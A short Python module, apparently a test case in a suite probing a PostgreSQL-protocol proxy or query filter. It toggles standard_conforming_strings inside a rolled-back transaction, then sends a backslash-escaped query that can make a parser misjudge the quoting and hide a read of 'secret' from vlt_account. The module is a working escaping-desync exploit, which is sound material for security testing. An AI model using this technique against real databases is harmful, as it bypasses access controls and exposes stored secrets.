"""Turns standard strings off for a transaction that turns back."""

from attacks.frames import SYNC, ask, query, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"SET standard_conforming_strings = off"))
        on = whole(b"BEGIN") + whole(b"SET standard_conforming_strings = on") + whole(b"ROLLBACK")
        return ask(client, on, whole(rb"SELECT '\'', secret FROM vlt_account --'"), SYNC)
